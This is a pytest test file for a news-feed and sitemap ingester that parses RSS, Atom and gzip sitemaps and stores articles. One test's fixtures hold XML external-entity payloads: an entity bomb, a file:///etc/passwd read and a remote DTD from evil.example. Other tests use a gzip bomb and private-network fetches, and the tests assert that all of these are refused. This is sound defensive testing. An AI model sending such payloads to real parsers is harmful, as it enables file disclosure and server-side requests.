"""Feeds and sitemaps: what they list is read whatever their form, and taken in once."""

from __future__ import annotations

import gzip
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from index.errors import FetchRefused
from index.feeds import Entry, Listing, is_listing, read_listing
from index.fetch import Fetcher
from index.ingest import Ingest, Report
from index.records import RawArticle
from index.store import Store
from index.web import Web
from qa_service.cli import cli
from tests.corpus import make_service
from tests.documents import docx
from tests.fakes import WordHashEmbedder
from tests.website import Answer, Website, website

AT = "https://a.id/rss"
WIB = timezone(timedelta(hours=7))


def listing(content: str | bytes) -> Listing:
    return read_listing(RawArticle(content.encode() if isinstance(content, str) else content, "text/xml", AT))


def facts(entry: Entry) -> tuple[object, ...]:
    return entry.url, entry.title, entry.published_at, entry.outlet


def rss(*items: str) -> str:
    return f"<rss version='2.0'><channel><title>Berita Kota</title>{''.join(items)}</channel></rss>"


def item(url: str, title: str = "Banjir", published: str = "Fri, 06 Feb 2026 14:30:00 +0700") -> str:
    return f"<item><title>{title}</title><link>{url}</link><pubDate>{published}</pubDate></item>"


# Reading


def test_an_rss_feed_lists_its_items() -> None:
    found = listing(rss(item("https://a.id/1", "Banjir &amp; <![CDATA[<b>Gempa</b>]]>"), item("/2"))).entries
    published = datetime(2026, 2, 6, 14, 30, tzinfo=WIB)
    assert [facts(entry) for entry in found] == [
        ("https://a.id/1", "Banjir & Gempa", published, "Berita Kota"),
        ("https://a.id/2", "Banjir", published, "Berita Kota"),
    ]


def test_an_atom_feed_lists_its_entries() -> None:
    found = listing(
        '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Berita Kota</title>'
        '<entry><title>Banjir</title><link rel="alternate" href="/1"/>'
        "<published>2026-02-06T07:30:00Z</published><source><title>Antara</title></source></entry></feed>"
    ).entries
    assert [facts(entry) for entry in found] == [
        ("https://a.id/1", "Banjir", datetime(2026, 2, 6, 7, 30, tzinfo=UTC), "Antara")
    ]


def test_a_feed_that_is_not_well_formed_is_read_all_the_same() -> None:
    assert [
        entry.url for entry in listing("\n\n" + rss(item("https://a.id/1", "Banjir & Gempa"))).entries
    ] == ["https://a.id/1"]


SITEMAP = """<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"
        xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">
  <url><loc> https://a.id/1 </loc><news:news>
    <news:publication><news:name>Berita Kota</news:name><news:language>id</news:language></news:publication>
    <news:publication_date>2026-02-06</news:publication_date><news:title>Banjir</news:title></news:news></url>
  <url><loc>https://a.id/2</loc><lastmod>2026-02-06</lastmod></url>
</urlset>"""


@pytest.mark.parametrize("content", [SITEMAP.encode(), gzip.compress(SITEMAP.encode())], ids=["xml", "gz"])
def test_a_sitemap_lists_its_pages(content: bytes) -> None:
    assert [facts(entry) for entry in listing(content).entries] == [
        ("https://a.id/1", "Banjir", date(2026, 2, 6), "Berita Kota"),
        ("https://a.id/2", "", None, ""),
    ]


def test_a_sitemap_index_names_further_sitemaps_but_not_itself() -> None:
    inner = "".join(
        f"<sitemap><loc>{url}</loc></sitemap>" for url in ("https://a.id/s1.xml.gz", AT, "/s2.xml")
    )
    assert listing(f"<sitemapindex>{inner}</sitemapindex>") == Listing(
        sitemaps=("https://a.id/s1.xml.gz", "https://a.id/s2.xml")
    )


@pytest.mark.parametrize("wrong", ["<loc>http://[bad</loc>", "<loc></loc>", ""])
def test_what_is_no_url_costs_a_sitemap_only_that_entry(wrong: str) -> None:
    right = "<loc>https://a.id/1</loc>"
    pages = listing(f"<urlset><url>{wrong}</url><url>{right}</url></urlset>")
    assert [entry.url for entry in pages.entries] == ["https://a.id/1"]
    further = f"<sitemapindex><sitemap>{wrong}</sitemap><sitemap>{right}</sitemap></sitemapindex>"
    assert listing(further) == Listing(sitemaps=("https://a.id/1",))


def test_what_is_no_url_costs_a_feed_only_that_entry() -> None:
    found = listing(rss(item("http://[bad"), item("https://a.id/1"))).entries
    assert [entry.url for entry in found] == ["https://a.id/1"]


def test_an_entry_is_another_version_when_what_is_said_of_it_changes() -> None:
    def version(date: str, title: str = "Banjir") -> str:
        return listing(rss(item("https://a.id/1", title, date))).entries[0].version

    assert version("6 Feb 2026") == version("6 Feb 2026")
    assert len({version("6 Feb 2026"), version("7 Feb 2026"), version("6 Feb 2026", "Surut")}) == 3


@pytest.mark.parametrize("published", ["", "kemarin", "Fri, 31 Dec 9999 23:59:59 -0500", "0000-01-01"])
def test_a_date_that_can_t_be_read_is_none(published: str) -> None:
    assert listing(rss(item("https://a.id/1", published=published))).entries[0].published_at is None


@pytest.mark.parametrize(
    ("published", "day"),
    [
        ("9999-12-31T23:59:59-12:00", date(9999, 12, 31)),
        ("0001-01-01T00:00:00+14:00", date(1, 1, 1)),
    ],
)
def test_of_a_time_that_no_calendar_has_here_the_day_is_left(published: str, day: date) -> None:
    assert listing(rss(item("https://a.id/1", published=published))).entries[0].published_at == day


def test_a_date_may_be_written_out_in_indonesian() -> None:
    found = listing(rss(item("https://a.id/1", published="Jumat, 6 Februari 2026 14:30 WIB"))).entries
    assert found[0].published_at == datetime(2026, 2, 6, 14, 30, tzinfo=WIB)


def test_a_time_without_a_zone_is_in_wib() -> None:
    moment = listing(rss(item("https://a.id/1", published="2026-02-06T14:30:00"))).entries[0].published_at
    assert moment == datetime(2026, 2, 6, 14, 30, tzinfo=WIB)


BOMB = '<!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE rss [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]>'


@pytest.mark.parametrize("declared", [BOMB, OUTSIDE, PARAMETER], ids=["bomb", "outside", "parameter"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize(
    "root", [rss(item("https://a.id/&a;")), "<urlset><url><loc>&a;</loc></url></urlset>"]
)
def test_what_declares_entities_is_refused(declared: str, encoding: str, root: str) -> None:
    with pytest.raises(FetchRefused, match="declares the entity 'a'"):
        listing((f'<?xml version="1.0" encoding="{encoding}"?>' + declared + root).encode(encoding))


def test_a_doctype_without_entities_is_no_harm() -> None:
    doctype = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://a.id/rss-0.91.dtd">'
    assert len(listing(doctype + rss(item("https://a.id/1"))).entries) == 1


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"<html><body>Banjir.</body></html>", "neither a feed nor a sitemap; .* `tanya add`"),
        (b"Banjir.", "neither"),
        (b"", "neither"),
        (b"/etc/passwd", "neither"),
        (b"<urlset><url>", "damaged XML"),
        (b'<?xml version="1.0" encoding="TF-8"?><urlset><url/></urlset>', "damaged XML .*TF-8"),
        (b'<?xml version="1.0" encoding="Shift_JIS"?><urlset><url/></urlset>', "damaged XML .*multi-byte"),
        ("<feed xmlns='a\u00a0b\u00a0c'><entry/></feed>".encode(), "damaged feed"),
        (b"\x1f\x8bnonsense", "damaged gzip"),
    ],
)
def test_what_is_no_list_is_refused(content: bytes, message: str) -> None:
    with pytest.raises(FetchRefused, match=message):
        listing(content)


def test_a_gzip_bomb_is_refused() -> None:
    with pytest.raises(FetchRefused, match="larger than a sitemap may be"):
        listing(gzip.compress(bytes(60_000_000)))


def test_a_page_is_no_list() -> None:
    assert is_listing(RawArticle(SITEMAP.encode(), "text/plain", AT))
    assert not is_listing(RawArticle(b"<!doctype html><html><p>Banjir", "text/html", AT))


# Taking in


@pytest.fixture
def site() -> Iterator[Website]:
    with website() as site:
        yield site


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    store = Store.in_home(tmp_path / "home")
    yield store
    store.close()


@pytest.fixture
def web(store: Store) -> Web:
    return Web(store, Ingest(store, WordHashEmbedder()), Fetcher(allow_private=True, pause_s=0))


def feed(web: Web, site: Website) -> Report:
    del site.asked[:]
    return web.feed(site.url("/rss"), lambda *_: None)


def publish(site: Website, *items: str) -> None:
    site.pages["/rss"] = Answer(rss(*items).encode(), headers={"Content-Type": "application/rss+xml"})


def texts(store: Store) -> list[str]:
    return sorted(article.text for article in store.articles(offset=0, limit=99))


def test_what_a_feed_lists_is_taken_in_once(web: Web, site: Website, store: Store) -> None:
    site.text("/1", "Banjir melanda Bekasi.")
    site.text("/2", "Gempa melanda Banten.")
    publish(site, item(site.url("/1")), item("/2"))
    assert feed(web, site) == Report(stored=2, passages=2)
    assert site.paths == ["/rss", "/1", "/2"]
    assert feed(web, site) == Report(unchanged=2)
    assert site.paths == ["/rss"]
    assert {article.url for article in store.articles(offset=0, limit=9)} == {site.url("/1"), site.url("/2")}


def test_an_entry_that_changed_is_fetched_again_and_one_that_rolled_off_stays(
    web: Web, site: Website, store: Store
) -> None:
    site.text("/1", "Banjir melanda Bekasi.")
    site.text("/2", "Gempa melanda Banten.")
    publish(site, item("/1"), item("/2"))
    feed(web, site)
    site.text("/1", "Banjir di Bekasi sudah surut.")
    publish(site, item("/1", "Surut"))
    assert feed(web, site) == Report(stored=1, passages=1)
    assert texts(store) == ["Banjir di Bekasi sudah surut.", "Gempa melanda Banten."]


def test_an_entry_that_changed_in_the_feed_alone_is_asked_for_but_not_sent(web: Web, site: Website) -> None:
    def page(headers: dict[str, str]) -> Answer:
        if headers.get("if-none-match") == '"1"':
            return Answer(status=304)
        return Answer(b"Banjir melanda.", headers={"ETag": '"1"', "Content-Type": "text/plain"})

    site.pages["/1"] = page
    publish(site, item("/1"))
    feed(web, site)
    publish(site, item("/1", "Banjir besar"))
    assert feed(web, site) == Report(unchanged=1)
    assert (feed(web, site), site.paths) == (Report(unchanged=1), ["/rss"])


def test_what_the_page_does_not_say_the_feed_says(web: Web, site: Website, store: Store) -> None:
    site.text("/1", "Banjir melanda Bekasi.")
    publish(site, item("/1"))
    feed(web, site)
    (article,) = store.articles(offset=0, limit=9)
    assert (article.title, article.outlet) == ("Banjir", "Berita Kota")
    assert article.published_at == datetime(2026, 2, 6, 14, 30, tzinfo=WIB)


def test_what_the_page_says_goes_before_what_the_feed_says(web: Web, site: Website, store: Store) -> None:
    site.pages["/1"] = Answer(
        b'{"text": "Banjir.", "title": "Judul", "outlet": "Antara", "date": "2026-02-05"}',
        headers={"Content-Type": "application/json"},
    )
    publish(site, item("/1"))
    feed(web, site)
    (article,) = store.articles(offset=0, limit=9)
    assert (article.title, article.outlet, article.published_at) == ("Judul", "Antara", date(2026, 2, 5))


def test_what_is_refused_is_named_and_tried_again(web: Web, site: Website, store: Store) -> None:
    site.text("/robots.txt", "User-agent: *\nDisallow: /dalam\n")
    site.text("/ok", "Banjir melanda.")
    site.pages["/photo"] = Answer(b"\x89PNG", headers={"Content-Type": "image/png"})
    publish(site, item("/gone"), item("/dalam/1"), item("ftp://a.id/1"), item("/photo"), item("/ok"))
    report = feed(web, site)
    assert (report.stored, texts(store)) == (1, ["Banjir melanda."])
    assert [refused.origin for refused in report.refused] == [
        site.url("/gone"),
        site.url("/dalam/1"),
        "ftp://a.id/1",
        site.url("/photo"),
    ]
    site.text("/gone", "Gempa melanda.")
    assert feed(web, site).stored == 1


def test_a_feed_that_has_not_changed_is_not_sent_again_once_all_of_it_got_in(web: Web, site: Website) -> None:
    def page(headers: dict[str, str]) -> Answer:
        if headers.get("if-none-match") == '"1"':
            return Answer(status=304)
        return Answer(rss(item("/1")).encode(), headers={"ETag": '"1"'})

    site.pages["/rss"] = page
    assert len(feed(web, site).refused) == 1
    site.text("/1", "Banjir melanda.")
    assert feed(web, site) == Report(stored=1, passages=1)
    assert feed(web, site) == Report()


def test_an_article_that_was_removed_does_not_come_back_by_its_feed_but_by_its_url(
    web: Web, site: Website, store: Store
) -> None:
    site.text("/1", "Banjir melanda.", ETag='"1"')
    publish(site, item("/1"))
    feed(web, site)
    store.delete(store.articles(offset=0, limit=9)[0].id)
    assert feed(web, site) == Report(unchanged=1)
    assert web.page(site.url("/1")) == Report(stored=1, passages=1)


def test_sitemaps_of_an_index_are_all_read(web: Web, site: Website, store: Store) -> None:
    def sitemap(path: str) -> Answer:
        content = f"<urlset><url><loc>{site.url(path)}</loc></url></urlset>".encode()
        return Answer(gzip.compress(content), headers={"Content-Type": "application/gzip"})

    names = "".join(
        f"<sitemap><loc>{site.url(path)}</loc></sitemap>" for path in ("/a.gz", "/none.gz", "/b.gz")
    )
    site.pages["/rss"] = Answer(f"<sitemapindex>{names}</sitemapindex>".encode())
    site.pages.update({"/a.gz": sitemap("/1"), "/b.gz": sitemap("/2")})
    site.text("/1", "Banjir melanda.")
    site.text("/2", "Gempa melanda.")
    report = feed(web, site)
    assert (report.stored, [refused.origin for refused in report.refused]) == (2, [site.url("/none.gz")])
    assert texts(store) == ["Banjir melanda.", "Gempa melanda."]


def test_how_far_a_feed_is_never_goes_back_and_ends_at_all_of_it(web: Web, site: Website) -> None:
    shares: list[float] = []
    names = "".join(f"<sitemap><loc>{site.url(path)}</loc></sitemap>" for path in ("/a", "/none", "/b"))
    site.pages["/rss"] = Answer(f"<sitemapindex>{names}</sitemapindex>".encode())
    for name in "ab":
        pages = "".join(f"<url><loc>{site.url(f'/{name}{n}')}</loc></url>" for n in range(2))
        site.pages[f"/{name}"] = Answer(f"<urlset>{pages}</urlset>".encode())
    web.feed(site.url("/rss"), lambda _, share: shares.append(share))
    assert shares == [3 / 8, 1 / 2, 3 / 4, 7 / 8, 1]


def test_a_page_is_added_and_asked_for_again_only_if_it_changed(web: Web, site: Website) -> None:
    def page(headers: dict[str, str]) -> Answer:
        if headers.get("if-none-match") == '"1"':
            return Answer(status=304)
        return Answer(b"Banjir melanda.", headers={"ETag": '"1"', "Content-Type": "text/plain"})

    site.pages["/1"] = page
    assert web.page(site.url("/1")) == Report(stored=1, passages=1)
    assert web.page(site.url("/1")) == Report(unchanged=1)


def test_a_feed_is_no_page(web: Web, site: Website) -> None:
    publish(site, item("/1"))
    (refused,) = web.page(site.url("/rss")).refused
    assert refused.reason == f"{site.url('/rss')}: a feed or a sitemap; `tanya feed` takes in what it lists"


def test_no_more_sitemaps_are_read_than_the_limit(
    web: Web, site: Website, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("index.web._MOST_SITEMAPS", 3)
    names = "".join(f"<sitemap><loc>/{number}.xml</loc></sitemap>" for number in range(5))
    site.pages["/rss"] = Answer(f"<sitemapindex>{names}</sitemapindex>".encode())
    for number in range(5):
        site.pages[f"/{number}.xml"] = Answer(b"<urlset/>")
    (refused,) = feed(web, site).refused
    assert refused.reason == (
        f"{site.url('/rss')}: leads to more than 500 sitemaps, of which the rest were left out; name those "
        "one by one"
    )
    assert site.paths == ["/rss", "/0.xml", "/1.xml"]


def test_a_document_is_taken_in_whatever_its_server_calls_it(web: Web, site: Website, store: Store) -> None:
    paragraph = "<w:p><w:r><w:t>Banjir melanda Bekasi.</w:t></w:r></w:p>"
    site.pages["/1"] = Answer(docx(paragraph), headers={"Content-Type": "application/octet-stream"})
    assert web.page(site.url("/1")) == Report(stored=1, passages=1)
    site.pages["/2.md"] = Answer(b"# Gempa\n\nGempa melanda Banten.")
    publish(site, item("/2.md"))
    assert feed(web, site) == Report(stored=1, passages=1)
    assert texts(store) == ["Banjir melanda Bekasi.", "Gempa melanda Banten."]


@pytest.mark.parametrize("listed", [False, True], ids=["page", "entry"])
def test_what_no_article_can_be_read_from_is_refused_with_what_can(
    web: Web, site: Website, listed: bool
) -> None:
    site.pages["/1"] = Answer(b"\x00\x01", headers={"Content-Type": "application/octet-stream"})
    publish(site, item("/1"))
    (refused,) = (feed(web, site) if listed else web.page(site.url("/1"))).refused
    assert refused.reason == (
        f"{site.url('/1')}: sent as application/octet-stream, in which no article can be read; readable are "
        ".txt, .html, .htm, .md, .markdown, .pdf, .docx, .json, .jsonl, each of them also with .gz"
    )


# By command


@pytest.fixture
def tanya(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Result]:
    """Runs a command in a home of its own, in this process: with an embedder that is there at once."""
    service = make_service(tmp_path / "home")
    monkeypatch.setenv("TANYA_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("TANYA_FETCH_PRIVATE", "true")
    monkeypatch.setattr("qa_service.archive_cli.open_index", lambda *_: service)
    monkeypatch.setattr("qa_service.sources_cli.open_index", lambda *_: service)
    return lambda *arguments: CliRunner().invoke(cli, arguments)


def test_a_feed_and_a_page_are_taken_in_by_command(
    tanya: Callable[..., Result], site: Website, store: Store
) -> None:
    site.text("/1", "Banjir melanda Bekasi.")
    site.text("/2", "Gempa melanda Banten.")
    publish(site, item("/1"), item("/gone"))
    fed = tanya("feed", site.url("/rss"))
    assert fed.exit_code == 0
    assert f"refused {site.url('/gone')}: answered 404 Not Found; check the address" in fed.stderr
    assert "1 stored, 0 unchanged, 1 refused" in fed.stderr
    added = tanya("add", site.url("/2"))
    assert (added.exit_code, "1 stored, 0 unchanged, 0 refused" in added.stderr) == (0, True)
    assert texts(store) == ["Banjir melanda Bekasi.", "Gempa melanda Banten."]


def test_a_feed_saved_as_a_file_is_taken_in_as_from_its_url(
    tanya: Callable[..., Result], site: Website, store: Store, tmp_path: Path
) -> None:
    site.text("/1", "Banjir melanda Bekasi.")
    file = tmp_path / "feed.xml"
    file.write_text(rss(item(site.url("/1"))))
    fed = tanya("feed", str(file))
    assert (fed.exit_code, "1 stored, 0 unchanged, 0 refused" in fed.stderr) == (0, True)
    assert texts(store) == ["Banjir melanda Bekasi."]
    again = tanya("feed", str(file))
    assert (again.exit_code, "0 stored, 1 unchanged, 0 refused" in again.stderr) == (0, True)
    refused = tanya("add", str(file))
    assert (refused.exit_code, f"`tanya feed {file}` takes in what a feed lists" in refused.stderr) == (
        1,
        True,
    )


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "feed.xml: No such file or directory; check the path and its permissions; a feed is named by"),
        ("<html></html>", "feed.xml: neither a feed nor a sitemap; a page is taken in with `tanya add`"),
    ],
)
def test_a_file_that_is_no_feed_is_refused_before_anything_is_opened(
    tanya: Callable[..., Result], tmp_path: Path, content: str | None, message: str
) -> None:
    file = tmp_path / "feed.xml"
    if content:
        file.write_text(content)
    refused = tanya("feed", str(file))
    assert (refused.exit_code, message in refused.stderr, "data in" in refused.stderr) == (1, True, False)


def test_what_is_refused_fails_only_a_strict_feed_unless_nothing_got_in(
    tanya: Callable[..., Result], site: Website
) -> None:
    site.text("/1", "Banjir melanda Bekasi.")
    publish(site, item("/1"), item("/gone"))
    assert [tanya("feed", site.url("/rss"), *strict).exit_code for strict in ((), ("--strict",))] == [0, 1]
    publish(site, item("/gone"))
    assert tanya("feed", site.url("/rss")).exit_code == 1


@pytest.mark.parametrize("command", ["add", "feed"])
def test_what_leads_into_the_own_network_is_refused_unless_it_is_allowed(
    tanya: Callable[..., Result], site: Website, monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    monkeypatch.delenv("TANYA_FETCH_PRIVATE")
    refused = tanya(command, site.url("/1"))
    assert refused.exit_code == 1
    assert f"refused {site.url('/1')}: 127.0.0.1 has the address 127.0.0.1, which is not" in refused.stderr
    assert site.asked == []
